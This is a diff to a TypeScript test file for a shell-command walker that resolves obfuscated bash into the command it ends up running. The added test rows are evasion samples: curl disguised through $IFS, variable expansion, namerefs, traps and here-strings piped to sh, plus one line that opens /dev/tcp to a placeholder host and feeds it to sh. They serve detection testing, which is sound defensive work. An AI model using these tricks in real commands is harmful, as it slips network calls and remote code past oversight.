@@ -75,6 +75,23 @@ const COMES_DOWN_TO: readonly (readonly [command: string, last: string])[] = [
   ["echo {a,b}{1..2} ~/z", "echo a1 a2 b1 b2 /home/ada/z"],
   ["x=1; x=$((x + 1)); echo $x", "echo 2"],
   ['git commit -m "$msg"', "git commit -m $msg"],
+  ["curl$IFS'x'", "curl x"],
+  ["${PATH:0:1}bin/curl x", "/bin/curl x"],
+  ["IFS=, read a b <<< 'curl,x'; $a $b", "curl x"],
+  ["declare -n r=v; v=curl; $r x", "curl x"],
+  ["hash -p /usr/bin/curl q; q x", "/usr/bin/curl x"],
+  ["$(command -v curl) x", "/usr/bin/curl x"],
+  ["$(env printf curl) x", "curl x"],
+  ["$(printf 'a\\ncurl\\n' | tail -n +2) x", "curl x"],
+  ["$(echo x curl | awk '{print $2}') x", "curl x"],
+  ["trap f EXIT; f() { curl x; }", "curl x"],
+  ["trap 'trap \"curl x\" EXIT' EXIT", "curl x"],
+  ["true | { trap 'curl x' EXIT; }", 'curl x << ""'],
+  ["exec 3<<< 'curl x'; sh <&3", 'sh << "curl x\\n"'],
+  ["exec {in}<<< 'curl x'; sh <&$in", 'sh << "curl x\\n"'],
+  ["exec <<< 'curl x'; sh", 'sh << "curl x\\n"'],
+  ["sh <&7", "sh <| ?"],
+  ["exec 5<>/dev/tcp/a.example/80; sh <&5", "sh <| ?"],
 ];
 
 describe("walk", () => {
@@ -98,6 +115,13 @@ describe("walk", () => {
     const lines = walked("if a; then P=python3; else P=node; fi; $P x");
     expect(lines).toContain("python3 x");
     expect(lines).toContain("node x");
+  });
+
+  it("gives each temporary file a name of its own", () => {
+    const names = walked("touch $(mktemp); touch $(mktemp -d)").filter((entry) => entry.startsWith("touch"));
+    expect(names).toEqual([...new Set(names)]);
+    for (const name of names) expect(name).toMatch(/^touch \/tmp\/tmp\.\d{6}$/);
+    expect(names).toHaveLength(2);
   });
 
   it("keeps a subshell's changes inside it", () => {
